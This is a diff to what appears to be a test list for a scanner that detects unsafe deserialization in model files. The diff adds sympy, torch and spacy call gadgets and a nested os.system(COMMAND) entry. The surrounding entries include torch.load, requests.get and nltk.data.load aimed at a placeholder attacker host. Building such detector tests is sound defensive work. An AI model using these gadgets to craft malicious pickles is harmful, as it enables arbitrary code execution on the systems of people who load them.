@@ -12,6 +12,7 @@ if TYPE_CHECKING:
 
 URL: Final = "https://attacker.invalid/model"
 FILE: Final = "attacker.bin"
+INNER: Final = call("os", "system", COMMAND).finished()
 
 CALLS: Final[tuple[tuple[str, str, tuple[object, ...]], ...]] = (
     ("torch", "load", (FILE,)),
@@ -91,6 +92,13 @@ CALLS: Final[tuple[tuple[str, str, tuple[object, ...]], ...]] = (
     ("jsonpickle", "decode", ('{"py/reduce": []}',)),
     ("sympy", "sympify", (EXPRESSION,)),
     ("sympy.parsing.sympy_parser", "parse_expr", (EXPRESSION,)),
+    ("sympy.core.add", "Add", (1, [EXPRESSION])),
+    ("sympy.core.numbers", "Rational", ([EXPRESSION],)),
+    ("sympy.matrices.dense", "MutableDenseMatrix", (1, 1, [EXPRESSION])),
+    ("sympy.geometry.point", "Point2D", ([EXPRESSION], 1)),
+    ("sympy.tensor.array.ndim_array", "NDimArray", ([EXPRESSION],)),
+    ("torch.utils._sympy.functions", "Mod", (EXPRESSION, 1)),
+    ("spacy.vocab", "unpickle_vocab", (None, None, None, None, INNER)),
     ("numexpr", "evaluate", (EXPRESSION,)),
     ("nltk.data", "load", (URL,)),
     ("requests", "get", (URL,)),
